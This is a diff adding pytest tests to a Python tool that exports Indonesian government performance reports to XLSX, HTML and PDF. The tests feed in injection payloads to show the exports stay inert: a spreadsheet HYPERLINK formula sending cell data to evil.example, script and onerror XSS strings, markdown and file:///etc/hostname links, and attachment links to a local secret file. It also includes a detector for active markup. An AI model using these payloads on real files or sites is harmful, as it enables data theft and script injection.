@@ -104,6 +104,11 @@ def test_html_has_no_code_params_or_stderr(html):
 
 def test_html_self_contained(html):
     assert "<script" not in html.lower()
+    assert '<meta http-equiv="Content-Security-Policy"' in html
+    import html as _h
+
+    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html).group(1)
+    assert _h.unescape(csp).startswith("default-src 'none'") and "script-src" not in csp
     assert not re.search(r"<link[^>]+href=", html, re.I)
     assert not re.search(r"""(src|href)=["']?https?:""", html, re.I)
     assert "@import" not in html
@@ -166,23 +171,92 @@ def test_xlsx_sheets_header_widths(tmp_path):
         {"ikm_per_opd": a, "a/b:c": b, long_name: a, long_name + "_2": a},
         tmp_path / "t.xlsx",
         info={"judul": "Uji", "periode": "2025Q1"},
+        sumber="Sumber: uji",
     )
     wb = load_workbook(path)
     names = wb.sheetnames
     assert names[0] == "info" and names[1] == "ikm_per_opd" and names[2] == "a_b_c"
     assert all(len(n) <= 31 for n in names) and len({n.lower() for n in names}) == len(names)
     ws = wb["ikm_per_opd"]
-    assert ws["A1"].value == "IKM per OPD"
-    assert [c.value for c in ws[3]] == ["opd", "n_asn", "ikm"]
-    assert all(c.font.bold for c in ws[3])
+    # title, source note, an empty row, then readable headers from the label registry
+    assert ws["A1"].value == "IKM per OPD" and ws["A2"].value == "Sumber: uji"
+    assert [c.value for c in ws[4]] == ["OPD", "Jumlah ASN", "IKM"]
+    assert all(c.font.bold for c in ws[4])
+    assert ws.freeze_panes == "A5"
     assert (
-        ws["B4"].value == 12 and ws["C4"].value == pytest.approx(81.25) and ws["C5"].value is None
+        ws["B5"].value == 12 and ws["C5"].value == pytest.approx(81.25) and ws["C6"].value is None
     )
+    assert ws["B5"].number_format == "#,##0" and ws["C5"].number_format == "#,##0.00"
     assert ws.column_dimensions["A"].width >= len("Dinas A")
     ws2 = wb["a_b_c"]
-    assert ws2["A1"].value == "periode"  # a named index becomes a column
-    assert ws2["B2"].value == dt.datetime(2025, 3, 31)
+    assert ws2["A3"].value == "Periode"  # a named index becomes a column
+    assert ws2["B4"].value == dt.datetime(2025, 3, 31)
     assert wb["info"]["B1"].value == "Uji"
+
+
+def test_xlsx_number_formats_per_column(tmp_path):
+    """Percent as percent (fractions and 0–100 columns alike), p-values as <0,001."""
+    from openpyxl import load_workbook
+
+    df = pd.DataFrame(
+        {
+            "opd": ["A", "B"],
+            "pct_di_bawah_20": [0.259, 0.5],
+            "tepat_waktu_pct": [95.5, 80.0],
+            "p_value": [1.98e-30, 0.0432],
+            "estimate": [1.23456, -0.5],
+            "rerata": [3.14159, 2.0],
+        }
+    )
+    df.attrs["format"] = {"rerata": {"jenis": "desimal", "desimal": 1}}
+    for bahasa, small in (("id", '"<0,001"'), ("en", '"<0.001"')):
+        path = to_xlsx({"t": df}, tmp_path / f"f_{bahasa}.xlsx", bahasa=bahasa)
+        ws = load_workbook(path)["t"]
+        head = [c.value for c in ws[1]]
+        assert "pct_di_bawah_20" not in head and "p_value" not in head
+        row = {h: c for h, c in zip(head, ws[2], strict=True)}
+        cells = list(ws[2])
+        assert cells[1].value == pytest.approx(0.259) and cells[1].number_format == "0.0%"
+        # 0–100 column stored as a fraction so that the percent format is right
+        assert cells[2].value == pytest.approx(0.955) and cells[2].number_format == "0.0%"
+        assert cells[3].value == pytest.approx(1.98e-30)
+        assert cells[3].number_format == f"[<0.001]{small};0.000"
+        assert cells[4].number_format == "#,##0.00"
+        assert cells[5].number_format == "#,##0.0"
+        assert len(row) == 6
+
+
+def test_xlsx_cells_are_data_never_formulas(tmp_path):
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    texts = [
+        "=1+1",
+        '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
+        "+1+1",
+        "-2+3",
+        "@SUM(1)",
+        "\tTab",
+        "\rCR",
+        "-",
+        "Dinas\x0bVT\x00NUL",
+    ]
+    df = pd.DataFrame({"opd": texts, "n": range(len(texts))})
+    df.attrs["judul"] = "=JUDUL()"
+    path = to_xlsx({"t": df}, tmp_path / "x.xlsx", info={"judul": "=INFO()"})
+    with zipfile.ZipFile(path) as z:
+        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+    assert b"<f>" not in xml and b"<f " not in xml
+    wb = load_workbook(path)
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c for c in cells if c.data_type == "f"]
+    values = [c.value for c in wb["t"]["A"]][3:]
+    assert values[:8] == texts[:8]  # the text itself, not a formula or a number
+    assert values[8] == "Dinas\ufffdVT\ufffdNUL"  # control characters made visible
+    for c in wb["t"]["A"][3:]:
+        if str(c.value).startswith(("=", "+", "-", "@", "\t", "\r")):
+            assert c.quotePrefix, c.value  # editing the cell in Excel keeps it text
 
 
 def test_xlsx_failure_keeps_previous_file(tmp_path):
@@ -206,3 +280,106 @@ def test_atomic_write(tmp_path):
 
 def test_notebook_roundtrip_is_valid(nb):
     nbformat.validate(nb)
+
+
+PAYLOADS = (
+    "<script>alert(1)</script>Kecamatan X",
+    "<img src=x onerror=alert(2)>Badan Y",
+    '<link rel="attachment" href="{secret}">Dinas Z',
+    "[Klik](http://evil.example) <http://evil.example> ![x](file:///etc/hostname)",
+)
+
+
+def _active_markup(html: str) -> list:
+    """Elements and attributes that execute or fetch: script/iframe/link/object/embed/
+    base/form elements, on* handlers, src/href pointing outside the page."""
+    from html.parser import HTMLParser
+
+    found = []
+
+    class P(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            if tag in ("script", "iframe", "object", "embed", "link", "base", "form"):
+                found.append((tag, attrs))
+            for k, v in attrs:
+                if k.startswith("on"):
+                    found.append((tag, k, v))
+                if k in ("src", "href") and v and not v.startswith(("data:image/", "#")):
+                    if re.match(r"^[a-zA-Z][a-zA-Z0-9+.-]*:", v) or v.startswith("//"):
+                        found.append((tag, k, v))
+
+    P().feed(html)
+    return found
+
+
+def test_markdown_outputs_with_data_stay_inert(nb, tmp_path):
+    secret = tmp_path / "rahasia.txt"
+    secret.write_text("ISI-RAHASIA-42")
+    md = "\n\n".join(p.format(secret=secret.as_uri()) for p in PAYLOADS)
+    cell = new_code_cell("doc.markdown(x)")
+    cell.outputs = [new_output("display_data", data={"text/markdown": f"## Temuan\n\n{md}"})]
+    nb2 = copy.deepcopy(nb)
+    nb2.cells.append(cell)
+    title = "Laporan <script>alert(9)</script> — =1+1"
+    h = to_html(nb2, title=title, periode="2025Q4", tanggal_buat=TANGGAL)
+    assert not _active_markup(h), _active_markup(h)
+    # the values are there, as text
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;Kecamatan X" in h
+    assert "onerror=alert(2)&gt;Badan Y" in h and "Dinas Z" in h
+    assert "&lt;script&gt;alert(9)&lt;/script&gt;" in h
+    assert re.search(r'<h2[^>]*id="temuan"[^>]*>Temuan</h2>', h)
+    # the PDF renderer reads no file and embeds nothing
+    from pypdf import PdfReader
+
+    pdf = to_pdf(h, tmp_path / "p.pdf")
+    raw = pdf.read_bytes()
+    assert b"ISI-RAHASIA-42" not in raw and b"EmbeddedFile" not in raw
+    reader = PdfReader(str(pdf))
+    assert not reader.attachments
+    text = " ".join(p.extract_text() for p in reader.pages)
+    assert "Dinas Z" in text and "ISI-RAHASIA-42" not in text
+
+
+def test_pdf_fetcher_refuses_files_and_network(tmp_path):
+    from pypdf import PdfReader
+
+    from kinerja_analysis.reporting.export import pdf_bytes, safe_fetcher
+
+    secret = tmp_path / "s.txt"
+    secret.write_text("RAHASIA-FETCH-7")
+    page = (
+        f'<html><head><link rel="attachment" href="{secret.as_uri()}">'
+        f'<link rel="stylesheet" href="{secret.as_uri()}"></head><body>'
+        f'<img src="{secret.as_uri()}"><img src="http://127.0.0.1:9/x.png">'
+        f'<a rel="attachment" href="{secret.as_uri()}">lampiran</a><p>isi</p></body></html>'
+    )
+    raw = pdf_bytes(page)
+    assert b"RAHASIA-FETCH-7" not in raw and b"EmbeddedFile" not in raw
+    assert not PdfReader(io.BytesIO(raw)).attachments
+    f = safe_fetcher()
+    with pytest.raises(ValueError, match="blocked"):
+        f.fetch(secret.as_uri())
+    with pytest.raises(ValueError, match="blocked"):
+        f.fetch("https://example.org/")
+    assert f.fetch("data:text/plain;base64,aXNp") is not None  # data: URIs are allowed
+
+
+def test_cover_uses_the_agency_profile(nb, tmp_path):
+    from kinerja_analysis.core.profile import AgencyProfile, Signatory
+
+    png = tmp_path / "logo.png"
+    png.write_bytes(base64.b64decode(_png()))
+    prof = AgencyProfile(
+        name="Sukamaju",
+        kind="kabupaten",
+        region="Provinsi <b>Contoh</b>",
+        logo=png,
+        signatory=Signatory("Nama Penanda", "Sekretaris Daerah", "Sukamaju"),
+    )
+    h = to_html(nb, title="T", periode="2025Q4", tanggal_buat=TANGGAL, profil=prof)
+    assert "Pemerintah Kabupaten Sukamaju" in h and "Kotalama" not in h
+    assert "Provinsi &lt;b&gt;Contoh&lt;/b&gt;" in h
+    assert 'class="logo" src="data:image/png;base64,' in h
+    assert "Sukamaju, 28 November 2026" in h and "Nama Penanda" in h
+    en = to_html(nb, title="T", periode="2025Q4", bahasa="en", profil=prof)
+    assert "Sukamaju Regency Government" in en
